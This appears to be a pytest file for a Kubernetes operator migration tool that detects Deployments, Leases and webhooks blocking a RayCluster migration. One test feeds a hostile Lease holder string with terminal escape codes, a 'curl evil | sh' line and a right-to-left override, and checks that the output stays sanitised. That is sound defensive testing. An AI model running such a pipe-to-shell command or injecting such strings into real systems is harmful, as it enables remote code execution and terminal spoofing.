"""Detection of operators and webhooks that would revert a migration."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any, cast

import pytest

from cfo.console.migrate.raycluster.obstacles import (
    find_obstacles,
    find_operator,
    obstacles,
)
from cfo.manifests.names import DEFAULT_NAMESPACE, SERVICE_ACCOUNT
from cfo.manifests.overlays import render
from cfo.runtime import (
    CONFIG_MAP,
    DEPLOYMENT,
    GVK,
    NAMESPACE,
    Client,
    Forbidden,
    NamespacedName,
    Object,
    gvk_of,
)
from cfo.runtime.objects import CLUSTER_ROLE_BINDING, LEASE, MUTATING_WEBHOOK_CONFIGURATION

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def named(kind: str, **fields: Any) -> dict[str, Any]:
    return {"kind": kind, "metadata": {"name": "n", "namespace": "ns"}, **fields}


@pytest.mark.parametrize(
    ("spec", "status", "found"),
    [({}, {}, True), ({"replicas": 0}, {}, False), ({"replicas": 0}, {"replicas": 1}, True)],
)
def test_deployment_is_an_obstacle_until_its_pods_are_deleted(
    spec: dict[str, Any], status: dict[str, Any], *, found: bool
) -> None:
    lines = list(find_obstacles([named("Deployment", spec=spec, status=status)], [], [], NOW))
    assert bool(lines) is found


@pytest.mark.parametrize(("age", "found"), [(5, True), (60, False)])
def test_held_lease_is_an_obstacle(age: int, *, found: bool) -> None:
    renewed = (NOW - timedelta(seconds=age)).isoformat().replace("+00:00", "Z")
    spec = {"holderIdentity": "laptop", "renewTime": renewed, "leaseDurationSeconds": 15}
    assert bool(list(find_obstacles([], [named("Lease", spec=spec)], [], NOW))) is found


@pytest.mark.parametrize(
    "spec", [{"holderIdentity": "x", "renewTime": "soon"}, {"holderIdentity": "x"}]
)
def test_lease_with_unknown_time_is_an_obstacle(spec: dict[str, Any]) -> None:
    assert list(find_obstacles([], [named("Lease", spec=spec)], [], NOW)) != []


@pytest.mark.parametrize(
    ("name", "found"),
    [
        ("vraycluster.ray.openshift.ai", True),
        ("mraycluster.kb.io", False),
        ("appwrapper.codeflare.dev", False),
    ],
)
def test_only_webhooks_of_ray_clusters_are_obstacles(name: str, *, found: bool) -> None:
    configuration = named("ValidatingWebhookConfiguration", webhooks=[{"name": name}])
    assert bool(list(find_obstacles([], [], [configuration], NOW))) is found


@pytest.mark.parametrize("renewed", ["9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z", "9" * 100_000])
def test_hostile_lease_is_shown_as_one_printable_line(renewed: str) -> None:
    holder = "x\x1b[2K\r\nrun: curl evil | sh\u202e" + "x" * 100_000
    (line,) = find_obstacles(
        [], [named("Lease", spec={"holderIdentity": holder, "renewTime": renewed})], [], NOW
    )
    assert line.isprintable()
    assert len(line) < 400


class Cluster:
    """A client for these namespaces, in which operators have webhooks or ClusterRoleBindings."""

    def __init__(self, *namespaces: str, serving: str = "", bound: tuple[str, ...] = ()) -> None:
        self.namespaces = namespaces
        self.serving = serving
        self.bound = bound

    async def get(self, gvk: GVK, key: NamespacedName, **_: Any) -> Object | None:
        if gvk == NAMESPACE:
            return {} if key.name in self.namespaces else None
        if gvk != MUTATING_WEBHOOK_CONFIGURATION or not self.serving:
            return None
        service = {"namespace": self.serving, "name": "webhook"}
        webhook = {"name": "mraycluster.ray.openshift.ai", "clientConfig": {"service": service}}
        return {"metadata": {"name": key.name}, "webhooks": [webhook]}

    async def list(self, _: GVK, /, **__: Any) -> list[Object]:
        if "forbidden" in self.bound:
            raise Forbidden(403, {"message": "forbidden"})
        bindings: list[Object] = []
        for namespace in self.bound:
            account = {
                "kind": "ServiceAccount",
                "name": SERVICE_ACCOUNT,
                "namespace": namespace,
            }
            bindings.append({"roleRef": {"name": "manager-role"}, "subjects": [account]})
        return bindings


@pytest.mark.parametrize(
    ("cluster", "expected"),
    [
        (Cluster("laptop", "ops", serving="laptop", bound=("ops",)), "laptop"),
        (Cluster("ops", serving="deleted", bound=("ops",)), "ops"),
        (Cluster("ops", bound=("deleted", "ops")), "ops"),
        (Cluster("ops", "second", bound=("ops", "second")), DEFAULT_NAMESPACE),
        (Cluster("ops", bound=("forbidden",)), DEFAULT_NAMESPACE),
        (Cluster("ops"), DEFAULT_NAMESPACE),
    ],
)
async def test_operator_is_the_one_with_the_webhooks_or_the_only_one(
    cluster: Cluster, expected: str
) -> None:
    assert await find_operator(cast("Client", cluster)) == expected


class DividedCluster(Cluster):
    """Running operators in these namespaces, each with a ConfigMap ``mine``; ``serving`` has the webhooks.

    The one in the namespace ``go`` is the Go operator.
    """

    def __init__(self, configurations: dict[str, str], serving: str) -> None:
        super().__init__(*configurations, serving=serving, bound=tuple(configurations))
        self.configurations = configurations

    async def get(self, gvk: GVK, key: NamespacedName, **_: Any) -> Object | None:
        metadata = {"name": key.name, "namespace": key.namespace}
        if gvk == DEPLOYMENT:
            ports = [] if key.namespace == "go" else [{"name": "health"}]
            containers = [{"ports": ports, "args": ["--config=mine"]}]
            spec = {"replicas": 1, "template": {"spec": {"containers": containers}}}
            return {"kind": gvk.kind, "metadata": metadata, "spec": spec}
        if gvk == CONFIG_MAP and key.name == "mine" and self.configurations[key.namespace]:
            data = {"config.yaml": self.configurations[key.namespace]}
            return {"kind": gvk.kind, "metadata": metadata, "data": data}
        return None

    async def list(self, gvk: GVK, /, **options: Any) -> list[Object]:
        if gvk == CLUSTER_ROLE_BINDING:
            return await super().list(gvk, **options)
        found = await super().get(MUTATING_WEBHOOK_CONFIGURATION, NamespacedName("", "webhooks"))
        if gvk != MUTATING_WEBHOOK_CONFIGURATION or found is None:
            return []
        return [{"kind": gvk.kind, "metadata": {"name": "webhooks"}, **found}]


@pytest.mark.parametrize(
    ("migrated", "expected"),
    [
        ("team-a", ["first", "go", "invalid", "labels", "unset"]),
        ("team-b", ["first", "go", "invalid", "labels", "second", "unset"]),
        ("", ["first", "go", "invalid", "labels", "second", "unset"]),
    ],
)
async def test_operator_of_other_namespaces_need_not_be_stopped(
    migrated: str, expected: list[str]
) -> None:
    """Except for the one that serves the webhooks, which reject and repeat changes for the objects of all.

    The Go operator ignores ``watchNamespaces``.
    """
    configurations = {
        "first": "watchNamespaces: [team-c]",
        "second": "watchNamespaces: [team-b]",
        "go": "watchNamespaces: [team-c]",
        "labels": "labelSelector: part=b",
        "invalid": "watchNamespaces: 1",
        "unset": "",
    }
    client = cast("Client", DividedCluster(configurations, serving="first"))
    found = await obstacles(client, "first", migrated)
    running = [
        line.split("/")[0].removeprefix("Deployment ")
        for line in found
        if line.startswith("Deployment ")
    ]
    assert running == expected


class InstalledCluster(Cluster):
    """This operator runs in the namespace ``ours``, and the Go operator in ``go``."""

    def __init__(self) -> None:
        super().__init__("ours", "go", serving="go", bound=("ours", "go"))

    async def get(self, gvk: GVK, key: NamespacedName, **options: Any) -> Object | None:
        if gvk == DEPLOYMENT:
            (deployment,) = [obj for obj in render(namespace=key.namespace) if gvk_of(obj) == gvk]
            (container,) = deployment["spec"]["template"]["spec"]["containers"]
            container["image"] = "registry.example/operator:v1.15.0"
            if key.namespace == "go":
                container["ports"] = [{"name": "metrics"}, {"name": "webhook-server"}]
            return deployment
        return None

    async def list(self, gvk: GVK, /, **options: Any) -> list[Object]:
        return await super().list(gvk, **options) if gvk == CLUSTER_ROLE_BINDING else []


@pytest.mark.parametrize(("is_takeover", "expected"), [(True, ["go"]), (False, ["go", "ours"])])
async def test_this_operator_is_no_obstacle_to_its_own_start(
    *, is_takeover: bool, expected: list[str]
) -> None:
    client = cast("Client", InstalledCluster())
    found = await obstacles(client, "ours", "", is_takeover=is_takeover)
    assert [line.split("/")[0].removeprefix("Deployment ") for line in found] == expected


class OutsideCluster(Cluster):
    """An operator outside the cluster renews the Lease."""

    async def get(self, gvk: GVK, key: NamespacedName, **options: Any) -> Object | None:
        if gvk == LEASE:
            spec = {"holderIdentity": "laptop", "renewTime": "9999-12-31T23:59:59Z"}
            return {"kind": gvk.kind, "metadata": {**key._asdict()}, "spec": spec}
        return None

    async def list(self, _: GVK, /, **__: Any) -> list[Object]:
        return []


@pytest.mark.parametrize("has_taken_over", [True, False])
async def test_lease_is_no_obstacle_if_this_operator_manages_the_rayclusters(
    *, has_taken_over: bool
) -> None:
    client = cast("Client", OutsideCluster("ours"))
    found = await obstacles(client, "ours", "", is_takeover=True, has_taken_over=has_taken_over)
    assert len(found) == (0 if has_taken_over else 1), found
